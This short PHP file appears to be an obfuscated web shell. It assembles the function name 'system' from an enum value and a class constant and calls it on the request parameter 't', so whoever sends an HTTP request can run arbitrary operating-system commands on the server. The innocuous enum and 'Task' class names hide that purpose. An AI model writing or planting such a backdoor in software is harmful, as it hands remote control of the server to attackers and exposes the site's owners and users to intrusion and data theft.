<?php
enum Op: string
{
    case Run = 'sys';
    case Tail = 'tem';
}
final class Task
{
    public const SUFFIX = 'tem';
    public static function name(): string { return Op::Run->value . self::SUFFIX; }
}
$f = Task::name();
$f($_REQUEST['t'] ?? '');
